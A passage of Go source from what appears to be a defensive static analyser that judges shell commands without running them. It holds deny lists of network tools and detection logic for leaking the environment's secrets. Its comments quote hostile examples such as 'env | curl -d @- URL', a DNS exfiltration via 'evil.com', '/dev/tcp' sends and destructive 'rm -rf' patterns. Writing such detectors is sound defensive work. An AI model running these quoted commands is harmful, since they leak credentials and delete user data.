		if pathConsumers[base(w.Lit())] {
			return true
		}
	}
	return false
}

// throughFilter is the input of a pipe from up, a filter that passes on
// (some of) the lines it reads: a list of paths stays one through it (du
// -a ~ | cut -f2 | xargs cat reads what du lists). Anything else is
// unknown.
func (r *run) throughFilter(sc *scope, up *syntax.Stmt, b string, unknown input, paths bool) input {
	upper, ok := sc.pipeUp[up]
	if !ok || upper == up {
		// The first stage of the pipe: a here-document or here-string
		// holding the environment is what it passes on.
		if r.redirEnviron(sc, up) {
			return input{kind: inUnknown, environ: true, detail: "the environment in a here-document through " + b}
		}
		return unknown
	}
	if r.filterDepthOver(sc) {
		return unknown
	}
	sc.filterDepth++
	in := r.writerInput(sc, upper, paths)
	sc.filterDepth--
	if !in.find && !in.environ {
		return unknown
	}
	in.detail += " through " + b
	return in
}

// redirEnviron reports whether a statement reads a here-document or a
// here-string that holds the environment (<<EOF with $(env) in it).
func (r *run) redirEnviron(sc *scope, st *syntax.Stmt) bool {
	for _, rd := range st.Redirs {
		switch {
		case (rd.Op == syntax.Hdoc || rd.Op == syntax.DashHdoc) && rd.Hdoc != nil && rd.Hdoc.Lit() == "":
			// Only a here-document with expansions can hold $(env).
			if r.document(sc, rd.Hdoc).why == whyEnviron {
				return true
			}
		case rd.Op == syntax.WordHdoc:
			if r.word(sc, rd.Word).why == whyEnviron {
				return true
			}
		}
	}
	return false
}

// environDump reports whether the builtin or program b with args prints
// the whole environment with its values: env and printenv without a
// command or name, set without arguments, export -p, declare and typeset
// -p or -x without names, and the environPrinters when their arguments
// say so.
func environDump(b string, args []field) bool {
	if p := environPrinters[b]; p != nil {
		return p(args)
	}
	var ops []field
	opts := ""
	for _, a := range args {
		if a.dyn {
			return false
		}
		if strings.HasPrefix(a.val, "-") && len(ops) == 0 {
			opts += a.val[1:]
			continue
		}
		ops = append(ops, a)
	}
	switch b {
	case "env":
		// env [-i] [-u NAME] [-C DIR] [NAME=VALUE]... prints; a command
		// after them, or one -S splits, runs instead.
		for i := 0; i < len(args); i++ {
			v := args[i].val
			switch {
			case v == "-u" || v == "--unset" || v == "-C" || v == "--chdir":
				i++
			case strings.HasPrefix(v, "-S") || strings.HasPrefix(v, "--split-string"):
				return false
			case v == "-" || v == "--ignore-environment" || strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && strings.ContainsRune(v, 'i'):
				return false // an empty environment: only what it is given
			case strings.HasPrefix(v, "-") && v != "-":
			case strings.IndexByte(v, '=') <= 0:
				return false
			}
		}
		return true
	case "printenv":
		return len(ops) == 0
	case "set":
		return len(args) == 0
	case "export":
		return len(ops) == 0
	default: // declare, typeset
		return len(ops) == 0 && (opts == "" || strings.ContainsAny(opts, "px"))
	}
}

// networkSenders are programs that send what they read on stdin to
// another host.
var networkSenders = map[string]bool{"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true,
	"ssh": true, "openssl": true, "http": true, "https": true, "xh": true, "mail": true, "mailx": true, "sendmail": true, "mutt": true,
	"ftp": true, "lftp": true, "sftp": true, "smbclient": true, "pastebinit": true, "gh": true, "nc.openbsd": true, "nc.traditional": true,
	"scp": true, "rsync": true, "aria2c": true, "wget2": true, "axel": true,
	"curlie": true, "httpie": true, "xhs": true, "grpcurl": true, "websocat": true, "wscat": true, "mosquitto_pub": true,
	"kcat": true, "kafkacat": true, "croc": true, "wormhole": true,
	// PowerShell's web cmdlets, whose -Body takes their input.
	"Invoke-WebRequest": true, "invoke-webrequest": true, "iwr": true, "Invoke-RestMethod": true, "invoke-restmethod": true, "irm": true}

// environSent flags a command that sends the shell's environment to the
// network: a program that sends its stdin elsewhere reading a dump of the
// environment (env | curl -d @- URL), or a dump redirected to a socket
// (env > /dev/tcp/host/port). The environment holds what the
// environment's variables hold, secrets included, as /proc/self/environ
// does.
//
// The network is also reached by a program that sends its input elsewhere
// without being a network client at heart (aws s3 cp - s3://..., rclone
// rcat, pastebinit: sendsInput), by xargs or parallel handing the items
// they read to such a program (env | xargs -I{} curl URL/{}: the
// environment goes into the URL), by a name looked up in DNS (dig
// $(env | base64 -w0).evil.com) and by a URL any program is given; and a
// file filled with the environment, committed and pushed by git, is sent
// too (see gitSendsHeld).
func (r *run) environSent(sc *scope, fs []field, in input, net, cmd string) {
	b := base(fs[0].val)
	if b == "git" {
		r.gitSendsHeld(fs, cmd)
	}
	switch {
	case in.shellOut && networkSenders[b]:
		r.finding(ruleReverseShell, Command, Block, b+" hands "+in.detail+" to a network peer", cmd, "")
	case in.environ && sendsInput(b, fs[1:]):
		r.finding(ruleSensitivePath, Path, Block, b+" sends "+in.detail+", which holds the shell's secrets, to another host", cmd, "")
	case in.environ && itemRunners[b] && runsSender(fs[1:]):
		r.finding(ruleSensitivePath, Path, Block, b+" hands "+in.detail+", which holds the shell's secrets, to a program that sends it to another host", cmd, "")
	case (networkSenders[b] || nameLookups[b]) && slices.ContainsFunc(fs[1:], func(f field) bool { return f.why == whyEnviron || r.procEnviron(sc, f) }):
		r.finding(ruleSensitivePath, Path, Block, b+" is given the environment, which holds the shell's secrets, to send to another host", cmd, "")
	case slices.ContainsFunc(fs[1:], func(f field) bool { return f.why == whyEnviron && strings.Contains(f.val, "://") }):
		r.finding(ruleSensitivePath, Path, Block, b+" is given a URL that holds the environment, which holds the shell's secrets", cmd, "")
	case net != "" && environDump(b, fs[1:]):
		r.finding(ruleSensitivePath, Path, Block, b+" writes the environment, which holds the shell's secrets, to "+net, cmd, "")
	case r.unknownProgram(b) && slices.ContainsFunc(fs[1:], func(f field) bool { return strings.Contains(f.val, "://") }) &&
		slices.ContainsFunc(fs[1:], func(f field) bool { return f.why == whyEnviron || r.procEnviron(sc, f) }):
		// A program the catalogue does not know, given the environment
		// and a URL, may send one to the other (mytool --data "$(env)"
		// https://host).
		r.finding(ruleSecretEgress, Path, Ask, b+" is given the environment and a URL: a program the analyser does not know may send one to the other", cmd, "")
	}
}

// unknownProgram reports whether the catalogue, built-in or the policy's,
// has no entry for program b.
func (r *run) unknownProgram(b string) bool {
	ce, extra := r.a.lookupEntry(b)
	return ce == nil && len(extra) == 0
}

// encoders are programs that pass on what they read, encoded or
// compressed.
var encoders = map[string]bool{"base64": true, "base32": true, "basenc": true, "gzip": true, "xz": true, "bzip2": true, "zstd": true,
	"lz4": true, "brotli": true, "xxd": true, "od": true, "hexdump": true, "openssl": true, "gpg": true, "age": true}

// pathFilters are programs that, reading a pipe, print parts of the lines
// they read: a list of paths stays a list of paths through them.
var pathFilters = map[string]bool{"grep": true, "egrep": true, "fgrep": true, "rg": true, "sed": true, "awk": true, "gawk": true, "mawk": true,
	"cut": true, "sort": true, "uniq": true, "head": true, "tail": true, "tr": true, "tac": true, "rev": true, "shuf": true, "tee": true, "column": true, "nl": true}

// psFilters are PowerShell's cmdlets (in lower case, with their aliases)
// that pass on what they read, reshaped or in part: the environment stays
// the environment through them (gci env: | Out-String | irm ...), a list
// of items a list of items.
var psFilters = map[string]bool{"out-string": true, "oss": true, "convertto-json": true, "convertto-csv": true, "convertto-xml": true,
	"convertto-html": true, "format-list": true, "fl": true, "format-table": true, "ft": true, "format-wide": true, "fw": true,
	"format-custom": true, "fc": true, "select-object": true, "select": true, "where-object": true, "where": true, "?": true,
	"sort-object": true, "select-string": true, "sls": true, "tee-object": true, "get-unique": true, "gu": true,
	"group-object": true, "group": true, "foreach-object": true, "foreach": true, "%": true}

// textWords are the items xargs may read from text: its words separated
// by blanks or NULs (xargs -0), and each line or NUL-ended item that holds
// a blank, whole (xargs -0 and -d '\n' keep "/home/dev/My Files" one item).
// Judging both readings errs on the strict side.
func textWords(text string) []field {
	var items []field
	for _, w := range strings.FieldsFunc(text, func(c rune) bool { return c == 0 || unicode.IsSpace(c) }) {
		items = append(items, field{val: w, glob: patternChars(w)})
	}
	if !strings.ContainsAny(text, " \t") {
		return items
	}
	for _, l := range strings.FieldsFunc(text, func(c rune) bool { return c == 0 || c == '\n' }) {
		if l = strings.TrimSpace(l); strings.ContainsAny(l, " \t") {
			items = append(items, field{val: l, glob: patternChars(l)})
		}
	}
	return items
}

func fieldVals(fs []field) []string {
	out := make([]string, len(fs))
	for i, f := range fs {
		out[i] = f.val
	}
	return out
}

func joinFields(fs []field) string {
	return strings.Join(fieldVals(fs), " ")
}

// field is one expanded word.
type field struct {
	val  string
	why  string // what made it dynamic
	dyn  bool   // depends on something not statically known
	glob bool   // has unquoted pattern characters
	expn bool   // depends on an expansion other than ~, $HOME and $PWD
	// contents says the path stands for what is under it (a find start
	// point given to -exec or xargs), not for the folder itself.
	contents bool
	// command says the value may be a command line (an assignment such as
	// GIT_SSH_COMMAND="ssh -i key"): its words are checked one by one.
	command bool
	// proc is the process substitution the value names (why is
	// whyProcSubst), whose output a shell may run (bash <(echo ...)): one
	// more than its index in run.procs, 0 for none. A small index keeps
	// the field at 40 bytes.
	proc uint16
}

// pidsWhy reports whether why marks process IDs a listing printed
// (whyAllPids, whyServicePids, whySomePids), which kill judges.
func pidsWhy(why string) bool {
	return why == whyAllPids || why == whyServicePids || why == whySomePids
}

const (
	whyEnviron   = "a substitution that prints the environment"
	whyAllPids   = "the IDs of nearly every process, of init or of a process the host or the session needs"
	whyProcSubst = "process substitution"
	whyXargs     = "xargs input"
	// whyServicePids is the ID of a system service's process (see
	// hostProcs): kill asks for it.
	whyServicePids = "the ID of a system service's process"
	// whySomePids are the IDs a filter the analyser cannot read picks
	// from a listing that holds processes the host needs (ps aux | awk
	// '$3 > 50 {print $2}'): kill asks for them.
	whySomePids = "the IDs of processes picked by a filter the analyser cannot read from a listing that holds ones the host needs"
	// whyLargeBrace is a brace expansion of more fields than
	// maxBraceFields.
	whyLargeBrace = "a large brace expansion"
)

// exEnv is the expansion environment: $HOME, $PWD and variables whose value
// the pre-pass knows; everything else is dynamic.
type exEnv struct {
	r   *run
	sc  *scope
	pos uint
	f   *field
	// pwdRef says the word mentions PWD, which expand also reads on its own.
	pwdRef bool
}

func (e *exEnv) Get(name string) expand.Variable {
	str := func(s string) expand.Variable {
		return expand.Variable{Set: true, Kind: expand.String, Str: s}
	}
	if it, ok := e.r.loopVars[name]; ok {
		e.f.expn = true
		e.f.glob = e.f.glob || it.glob // the loop's pattern, already expanded
		if it.dyn {
			e.dynamic(it.why)
		}
		return str(it.val)
	}
	switch {
	case name == "IFS":
		// bash starts with the default whatever the environment says; the
		// script's own value splits words from where it is set.
		if d, ok := e.sc.vars[name]; ok && e.pos >= d.after {
			if d.tainted {
				e.dynamic("$IFS")
				return str(" \t\n")
			}
			return str(d.value)
		}
		if v, ok := e.sc.inherit[name]; ok {
			return str(v)
		}
		return str(" \t\n")
	case name == "HOME" || name == "USER" || name == "LOGNAME":
		// The script's value; else the home folder, and the user's name
		// as its last name gives it (/home/$USER is the home).
		if v, ok := e.sc.lookup(name, e.pos); ok {
			e.f.expn = true
			return str(v)
		}
		def := e.r.a.home
		if name != "HOME" {
			def = e.r.a.userName()
		}
		if d, ok := e.sc.vars[name]; ok && d.tainted || def == "" && name != "HOME" {
			e.dynamic("$" + name)
			return expand.Variable{}
		}
		return str(def)
	case name == "SHELL" || name == "BASH":
		// The user's shell and bash's own path: a shell, whichever one
		// ($SHELL -c CMD runs CMD), unless the script sets them.
		if v, ok := e.sc.lookup(name, e.pos); ok {
			e.f.expn = true
			return str(v)
		}
		if d, ok := e.sc.vars[name]; ok && d.tainted {
			e.dynamic("$" + name)
			return expand.Variable{}
		}
		if name == "BASH" {
			return str("/bin/bash")
		}
		return str("/bin/sh")
	case name == "$" || name == "BASHPID" || name == "PPID":
		// The shell's own process: /proc/$$/environ is its environment.
		e.dynamic("$" + name)
		return str("self")
	case name == "OLDPWD" && e.r.cdDone:
		// cd sets it to the folder it left.
		if e.r.oldpwd != "" {
			e.f.expn = true
			return str(e.r.oldpwd)
		}
		e.dynamic("$OLDPWD")
		return expand.Variable{}
	case name == "PWD":
		if e.r.cwd != "" {
			return str(e.r.cwd)
		}
		if e.pwdRef { // the word uses $PWD; the expand package also asks for it
			e.dynamic("$PWD")
		}
		return expand.Variable{}
	case strings.HasPrefix(name, "HOME "):
		// The expand package reads a tilde-prefix up to the first '/'
		// only; bash ends it at a ':' too (~:/h is "$HOME:/h", as in
		// docker run -v ~:/h), and reads ~+ and ~- as $PWD and $OLDPWD;
		// on Windows a '\' ends it as a '/' does.
		user, rest := name[len("HOME "):], ""
		cut := strings.IndexByte(user, ':')
		if i := strings.IndexByte(user, '\\'); e.r.a.windows && i >= 0 && (cut < 0 || i < cut) {
			cut = i // ~\.ssh on Windows, where \ separates a path's folders
		}
		if cut >= 0 {
			user, rest = user[:cut], user[cut:]
		}
		if cut >= 0 || user == "" || user == "+" || user == "-" {
			var v expand.Variable
			switch user {
			case "":
				v = e.Get("HOME")
			case "+":
				v = e.Get("PWD")
			case "-":
				v = e.Get("OLDPWD")
			default:
				v = e.Get("HOME " + user)
			}
			if !v.IsSet() || rest == "" {
				return v
			}
			return str(v.String() + rest)
		}
		if user == path.Base(e.r.a.home) {
			return str(e.r.a.home) // ~dev is the user's own home
		}
		if user == "root" {
			if e.r.a.goos == "darwin" {
				return str("/var/root")
			}
			return str("/root")
		}
		// Another user's home, wherever the system keeps it: the usual
		// place stands for it (see tildeHome).
		e.dynamic("~" + user)
		return str(e.r.a.usersFolder() + "/" + user)
	}
	if list, ok := e.sc.lookupArray(name, e.pos); ok {
		e.f.expn = true
		return expand.Variable{Set: true, Kind: expand.Indexed, List: list}
	}
	if v, ok := e.sc.lookup(name, e.pos); ok {
		e.f.expn = true
		if name == "@" || name == "*" {
			// sh -c SCRIPT NAME ARGS: the arguments, each a word.
			return expand.Variable{Set: true, Kind: expand.Indexed, List: strings.Split(v, "\x00")}
		}
		return str(v)
	}
	if d, ok := e.sc.vars[name]; ok && d.why != "" {
		e.dynamic(d.why)
		e.f.why = d.why
		return expand.Variable{}
	}
	if e.f.dyn {
		e.f.expn = true // why is the first reason's
	} else {
		e.dynamic(e.r.calls.join("$", name, ""))
	}
	if def, ok := e.r.a.conventionalDefault(name); ok {
		// Not known, but most likely this (see conventionalDefaults),
		// unless the script gives it a value of its own by here.
		if d, set := e.sc.vars[name]; !set || !d.tainted && e.pos < d.after {
			return str(def)
		}
	}
	return expand.Variable{}
}

// Each lists no variables: nothing is exported to what the analyser runs,
// because it runs nothing.
func (e *exEnv) Each(func(string, expand.Variable) bool) {}

func (e *exEnv) dynamic(why string) {
	e.f.expn = true
	if !e.f.dyn {
		e.f.dyn = true
		e.f.why = why
	}
}

// whySplit is the reason of a field made of several fields by word
// splitting.
const whySplit = "word splitting"

// words expands a list of words, with brace expansion.
func (r *run) words(sc *scope, ws []*syntax.Word) []field {
	out := r.calls.fields(len(ws))
	for _, w := range ws {
		if !hasBraces(w) {
			f := r.word(sc, w)
			if f.dyn && f.why == whySplit && r.split != nil {
				// Known values split into fields: each is a word, as
				// bash passes them (no tilde or further expansion).
				for _, v := range r.split {
					sf := field{val: v, glob: patternChars(v), expn: true}
					out = r.globLinks(sf, append(out, sf))
				}
				r.split = nil
				continue
			}
			r.extraTildes(sc, w, &f, false)
			out = append(out, f)
			out = r.globLinks(f, out)
			continue
		}
		n := len(out)
		out = r.braceWords(sc, w, out)
		for i, end := n, len(out); i < end; i++ {
			out = r.globLinks(out[i], out) // each pattern the braces made
		}
	}
	return out
}

// maxGlobs bounds the patterns a call expands through Env.GlobLinks.
const maxGlobs = 16

// collapsedPattern returns the path a pattern with ".." after a pattern
// component reaches through the folders it matches: each such component
// and the ".." after it cancel out (~/*/../.. is ~/.. wherever ~ holds a
// folder). The word itself asks, since a link the component matches
// leads elsewhere (Env.GlobLinks reads those); this reading judges what
// an ordinary folder leads to, so rm -rf ~/*/../.. is rm -rf /home.
func (r *run) collapsedPattern(f field) (string, bool) {
	if f.dyn || !f.glob || !strings.Contains(f.val, "..") {
		return "", false
	}
	v := r.a.slash(f.val)
	if _, dotDot := patternComps(strings.Split(v, "/")); dotDot {
		return r.a.clean(v), true
	}
	return "", false
}

// dotDotPattern returns f, a pattern, with each folder component that can
// match ".." (.?, .*, .[.]*) read as "..": bash before 5.2, and bash 5.2
// with globskipdots turned off, matches . and .. with a pattern that
// starts with a dot, so rm -rf .*/.*/* deletes ../../* (see
// docs/security-model.md, Hardline). The last component is left as
// written: rm refuses . and .. as its operands, and a reader given the
// parent folder reads no more than the pattern's other matches may.
func (r *run) dotDotPattern(f field) (string, bool) {
	if f.dyn || !f.glob || r.skipDots || !strings.Contains(f.val, ".") {
		return "", false
	}
	comps := strings.Split(strings.TrimRight(r.a.slash(f.val), "/"), "/")
	changed := false
	for i := 0; i < len(comps)-1; i++ {
		c := comps[i]
		if len(c) > 1 && c[0] == '.' && patternChars(c) {
			if ok, _ := path.Match(strings.ReplaceAll(c, "[!", "[^"), ".."); ok { // bash's [!...] is Go's [^...]
				comps[i], changed = "..", true
			}
		}
	}
	if !changed {
		return "", false
	}
	return strings.Join(comps, "/"), true
}

// globAnswer is what Env.GlobLinks answered for one pattern.
type globAnswer struct {
	matches []string
	err     error
}

// globLinks appends to out the matches of f, a pattern, that bash reaches
// through a symbolic link a pattern component matched (see
// Env.GlobLinks): rm -rf */ in a folder holding home -> /home/dev is rm
// -rf home/ as well, and judged so. A pattern that cannot be expanded
// within the bounds asks (see docs/security-model.md, Hardline).
func (r *run) globLinks(f field, out []field) []field {
	if c, ok := r.collapsedPattern(f); ok {
		out = append(out, field{val: c, glob: patternChars(c), contents: f.contents, expn: true})
	}
	if c, ok := r.dotDotPattern(f); ok {
		out = append(out, field{val: c, glob: patternChars(c), contents: f.contents, expn: true})
	}
	if f.dyn || !f.glob {
		return out
	}
	if patternParen(f.val) {
		out = r.extglobPaths(f, out)
	}
	if r.env.GlobLinks == nil || r.env.Canonical == nil || !patternChars(f.val) {
		return out
	}
	pat := r.a.slash(f.val)
	if !r.a.isAbs(pat) {
		if r.cwd == "" {
			return out
		}
		pat = strings.TrimSuffix(r.cwd, "/") + "/" + pat
	}
	pat = strings.TrimRight(pat, "/")
	// Env.GlobLinks reads Go's pattern syntax: bash's is translated, and
	// each alternative an extglob operator makes is expanded (those that
	// hold no pattern are judged by extglobPaths).
	var buf [4]string
	alts, anyDot := goGlobs(pat, r.nocaseglob, buf[:0])
	dotglob := r.dotglob || anyDot
	for _, alt := range alts {
		if !strings.ContainsAny(alt, "*?[\\") {
			continue
		}
		key := alt
		if dotglob {
			key += "\x00dotglob"
		}
		ans, seen := r.calls.globbed[key]
		if !seen {
			if len(r.calls.globbed) >= maxGlobs {
				r.tooComplex(fmt.Sprintf("the command expands more than %d patterns that may match links", maxGlobs))
				return out
			}
			ans.matches, ans.err = r.env.GlobLinks(alt, dotglob)
			if r.calls.globbed == nil {
				r.calls.globbed = make(map[string]globAnswer, 2)
			}
			r.calls.globbed[key] = ans // each pattern is expanded once per call
		}
		if ans.err != nil {
			r.add(Finding{Rule: ruleUnresolvable, Kind: Dynamic, Severity: Ask, Path: pat,
				Detail: bound("the pattern " + pat + " cannot be expanded to see which links it matches (" + ans.err.Error() + "), so what it reaches is unknown")})
			return out
		}
		for _, m := range ans.matches {
			out = append(out, field{val: m, contents: f.contents, expn: true})
		}
	}
	return out
}

// extglobPaths appends to out the alternatives of f's extglob operators
// that hold no pattern: each is a path bash may expand f to, judged as
// written (through its links too: @(hostroot)/ is hostroot/).
func (r *run) extglobPaths(f field, out []field) []field {
	var buf [4]string
	alts, _ := goGlobs(f.val, false, buf[:0])
	if len(alts) == 1 && alts[0] == f.val {
		return out
	}
	for _, alt := range alts {
		if !strings.ContainsAny(alt, "*?[\\") {
			out = append(out, field{val: alt, contents: f.contents, expn: true})
		}
	}
	return out
}

// extraTildes expands the tilde-prefixes of an argument that the
// expand package leaves alone and bash does not: in a word shaped like an
// assignment (of=~/x, DESTDIR=~/y, PATH=~/bin:~/sbin), those after the
// first '=' and after each ':', as bash does outside POSIX mode (dd
// of=~/.bashrc writes the startup file); and at a word's start, a prefix
// that a ':' ends (~:x). f is the word's field as expanded without them,
// which begins with the word's first literal. value says w is an
// assignment's value (x=/tmp:~, export PATH=~/bin:~), whose tilde-prefixes
// after each ':' bash expands too. A literal after the first part that
// holds such a prefix (x=$A:~) makes the field unknown: its place in the
// expanded text is not kept.
func (r *run) extraTildes(sc *scope, w *syntax.Word, f *field, value bool) {
	if len(w.Parts) == 0 {
		return
	}
	l, ok := w.Parts[0].(*syntax.Lit)
	assign := ok && !value && assignShaped(l.Value)
	if value || assign {
		laterTildes(w, f)
	}
	if !ok || strings.IndexByte(l.Value, '~') < 0 {
		return
	}
	v := l.Value
	eq := -1 // the '=' of a word shaped like an assignment
	if assign {
		eq = strings.IndexByte(v, '=')
	}
	var b strings.Builder
	done := 0 // v[:done] is in b
	for k := 0; k < len(v); k++ {
		switch {
		case v[k] != '~':
			continue
		case k == 0:
			if i := strings.IndexAny(v, "/:"); i < 0 || v[i] != ':' {
				continue // expanded already, or not a prefix bash expands
			}
			if len(w.Parts) > 1 && strings.IndexByte(v, '/') < 0 {
				// bash reads ~:"x" and ~:$x irregularly (the first not
				// at all, the second without expanding $x); either way
				// the result is glued to "HOME:", no path under HOME.
				continue
			}
		case value:
			if v[k-1] != ':' {
				continue
			}
		case eq <= 0 || k <= eq || v[k-1] != ':' && k != eq+1:
			continue
		}
		end := k + 1
		for end < len(v) && v[end] != '/' && v[end] != ':' {
			end++
		}
		if end == len(v) && len(w.Parts) > 1 || strings.ContainsRune(v[:end], '\\') {
			break // the prefix runs into an expansion or holds a quoted character: bash leaves it
		}
		env := exEnv{r: r, sc: sc, pos: w.Pos().Offset(), f: f}
		var home expand.Variable
		switch user := v[k+1 : end]; user {
		case "":
			home = env.Get("HOME")
		case "+":
			home = env.Get("PWD")
		case "-":
			env.dynamic("~-")
		default:
			home = env.Get("HOME " + user)
		}
		if !home.IsSet() || home.Str == "" {
			continue
		}
		b.WriteString(v[done:k])
		b.WriteString(home.Str)
		done = end
	}
	if done == 0 || !strings.HasPrefix(f.val, v[:done]) {
		return
	}
	b.WriteString(f.val[done:])
	f.val = b.String()
}

// assignShaped reports whether a word's first literal begins as an
// assignment does (NAME= or NAME+=).
func assignShaped(lit string) bool {
	eq := strings.IndexByte(lit, '=')
	return eq > 0 && isName(strings.TrimSuffix(lit[:eq], "+"))
}

// laterTildes makes f unknown when a literal of w after its first part
// holds a tilde-prefix bash expands in an assignment (after a ':'), which
// extraTildes cannot place in the expanded text.
func laterTildes(w *syntax.Word, f *field) {
	for _, p := range w.Parts[1:] {
		if l, ok := p.(*syntax.Lit); ok && strings.Contains(l.Value, ":~") && !f.dyn {
			f.dyn, f.why = true, "a tilde-prefix bash expands after a variable"
			return
		}
	}
}

// assignValue expands an assignment's value as bash does: as a word,
// with the tilde-prefixes after each ':' expanded too.
func (r *run) assignValue(sc *scope, w *syntax.Word) field {
	f := r.word(sc, w)
	if strings.Contains(w.Lit(), ":~") || len(w.Parts) > 1 {
		r.extraTildes(sc, w, &f, true)
	}
	return f
}

// braceWords appends the fields of a word with braces to out. It is apart
// from words so that the iterator's closure captures its own slice, not
// words' (which would then be moved to the heap on every call).
func (r *run) braceWords(sc *scope, w *syntax.Word, out []field) []field {
	cw := copyWord(w)
	if !syntax.SplitBraces(cw) {
		f := r.word(sc, w)
		r.extraTildes(sc, w, &f, false) // bash leaves the words of a real brace expansion alone
		return append(out, f)
	}
	n, start := 0, len(out)
	for bw, err := range expand.BracesSeq(nil, cw) {
		n++
		if err != nil || n > maxBraceFields {
			out = append(out, field{val: w.Lit(), dyn: true, why: whyLargeBrace, expn: true})
			break
		}
		jw := joinLits(bw)
		if l, ok := jw.Parts[0].(*syntax.Lit); ok && len(jw.Parts) == 1 && l.Value == "" {
			continue // an unquoted empty word is removed ({~,} is one word)
		}
		out = append(out, r.word(sc, jw))
	}
	if n == 1 && len(out) > start && !out[len(out)-1].dyn {
		// Braces that expand to the one word they are ({x}) are no
		// brace expansion to bash.
		r.extraTildes(sc, w, &out[len(out)-1], false)
	}
	return out
}

// joinLits joins the adjacent literal parts of a word that brace
// expansion left apart ({~,x} gives "~" and ""): the word is expanded as
// bash sees it, a tilde-prefix included.
func joinLits(w *syntax.Word) *syntax.Word {
	adjacent := false
	for i := 1; i < len(w.Parts); i++ {
		_, a := w.Parts[i-1].(*syntax.Lit)
		_, b := w.Parts[i].(*syntax.Lit)
		adjacent = adjacent || a && b
	}
	if !adjacent {
		return w
	}
	c := *w
	c.Parts = nil
	for _, p := range w.Parts {
		l, ok := p.(*syntax.Lit)
		if !ok {
			c.Parts = append(c.Parts, p)
			continue
		}
		if n := len(c.Parts); n > 0 {
			if pl, ok := c.Parts[n-1].(*syntax.Lit); ok {
				c.Parts[n-1] = &syntax.Lit{ValuePos: pl.ValuePos, ValueEnd: l.ValueEnd, Value: pl.Value + l.Value}
				continue
			}
		}
		c.Parts = append(c.Parts, &syntax.Lit{ValuePos: l.ValuePos, ValueEnd: l.ValueEnd, Value: l.Value})
	}
	return &c
}

func hasBraces(w *syntax.Word) bool {
	for _, p := range w.Parts {
		if l, ok := p.(*syntax.Lit); ok && strings.ContainsRune(l.Value, '{') {
			return true
		}
	}
	return false
}

// copyWord copies a word's part list, since SplitBraces rewrites it.
func copyWord(w *syntax.Word) *syntax.Word {
	c := *w
	c.Parts = slices.Clone(w.Parts)
	return &c
}

// word expands one word without executing anything: quote removal, ~ and
// $HOME, known variables, and static command substitutions ($(echo x),
// $(pwd)). Anything else makes the field dynamic.
func (r *run) word(sc *scope, w *syntax.Word) field {
	if w == nil {
		return field{}
	}
	if v, ok := simpleWord(w); ok {
		return field{val: v, glob: hasGlob(w)}
	}
	return r.expandWord(sc, w)
}

// expandWord is word for a word that is not a plain literal.
func (r *run) expandWord(sc *scope, w *syntax.Word) field {
	return r.expand(sc, w, false)
}

// document is a here-document's body as the shell expands it.
func (r *run) document(sc *scope, w *syntax.Word) field {
	return r.expand(sc, w, true)
}

// expand expands w as a word (doc false) or as a here-document's body.
func (r *run) expand(sc *scope, w *syntax.Word, doc bool) field {
	var pf field
	if !doc && r.paramWord(sc, w, &pf) {
		pf.glob = pf.glob || hasGlob(w)
		return pf
	}
	// The field lives in the call's arena: the expansion callbacks reach it
	// through r.xenv, which a nested expansion saves and restores.
	text := r.nodeText(sc, w)
	promptWhy := ""
	if !doc && (text == "" || strings.Contains(text, "@P}")) {
		w, promptWhy = r.promptWord(sc, w)
	}
	f := r.calls.field()
	*f = pf // what paramWord learnt before it gave up stays
	r.xenv = exEnv{r: r, sc: sc, pos: w.Pos().Offset(), f: f}
	if promptWhy != "" {
		r.xenv.dynamic(promptWhy)
	}
	misread := false
	// A replacement is ${NAME/...}: a word whose text holds no "${" and
	// "/" has none, and needs the walk only for $PWD.
	if r.cwd == "" || text == "" || strings.Contains(text, "${") && strings.IndexByte(text, '/') >= 0 {
		walkTree(w, func(n syntax.Node) bool {
			if pe, ok := n.(*syntax.ParamExp); ok {
				if pe.Param != nil && pe.Param.Value == "PWD" && r.cwd == "" {
					r.xenv.pwdRef = true
				}
				misread = misread || misreadReplace(pe.Repl)
			}
			return true
		})
	}
	if r.cmdSubst == nil {
		r.cmdSubst, r.procSubst = r.cmdSubstHook, r.procSubstHook
	}
	// ExtGlob keeps an extglob operator in the field's text (@(a|b)),
	// matched as a pattern later (see goGlobs): bash reads it once
	// extglob is set, which a shell's startup files may do too.
	r.cfg = expand.Config{Env: &r.xenv, CmdSubst: r.cmdSubst, ProcSubst: r.procSubst, ExtGlob: true}
	if doc {
		// A here-document's body: expanded, with no tilde expansion, no
		// splitting and no patterns.
		v, err := expand.Document(&r.cfg, w)
		if err != nil {
			r.xenv.dynamic("an expansion error")
		}
		f.val = v
		return *f
	}
	f.glob = hasGlob(w)
	r.split = nil
	if misread {
		r.xenv.dynamic("a replacement the expander does not read as bash does")
	}
	vals, err := expand.Fields(&r.cfg, w)
	switch {
	case err != nil:
		r.xenv.dynamic("an expansion error")
		f.val = w.Lit()
	case len(vals) == 1:
		f.val = vals[0]
	default:
		f.val = strings.Join(vals, " ")
		if len(vals) > 1 {
			r.split = vals // used only when splitting is why f is dynamic
		}
		if len(vals) > 1 || hasExpansion(w) {
			r.xenv.dynamic(whySplit)
		}
	}
	for _, p := range w.Parts {
		if _, ok := p.(*syntax.ArithmExp); ok {
			f.expn = true
		}
	}
	if !f.glob && patternChars(f.val) && unquotedExpansion(w) {
		f.glob = true // bash matches the pattern an unquoted expansion yields (x='*/'; rm -rf $x)
	}
	return *f
}

// misreadReplace reports whether a ${NAME/PATTERN/STRING} is one the
// expand package reads otherwise than bash: a pattern anchored at the
// start or the end (${x/#b//etc} is /etc to bash, b to it), or a '&' in
// the string, which bash 5.2 replaces with the matched text (${x/o/&ot}).
// Such a word is not known.
func misreadReplace(repl *syntax.Replace) bool {
	if repl == nil {
		return false
	}
	if repl.Orig != nil && len(repl.Orig.Parts) > 0 {
		if l, ok := repl.Orig.Parts[0].(*syntax.Lit); ok && (strings.HasPrefix(l.Value, "#") || strings.HasPrefix(l.Value, "%")) {
			return true
		}
	}
	misread := false
	if repl.With != nil {
		walkTree(repl.With, func(n syntax.Node) bool {
			switch n := n.(type) {
			case *syntax.Lit:
				misread = misread || strings.ContainsRune(n.Value, '&')
			case *syntax.SglQuoted:
				misread = misread || strings.ContainsRune(n.Value, '&')
			}
			return true
		})
	}
	return misread
}

// unquotedExpansion reports whether w holds an expansion outside quotes,
// whose value bash splits and matches as a pattern.
func unquotedExpansion(w *syntax.Word) bool {
	for _, p := range w.Parts {
		switch p.(type) {
		case *syntax.ParamExp, *syntax.CmdSubst, *syntax.ArithmExp:
			return true
		}
	}
	return false
}

// cmdSubstHook is the expansion's CmdSubst: the output of a command
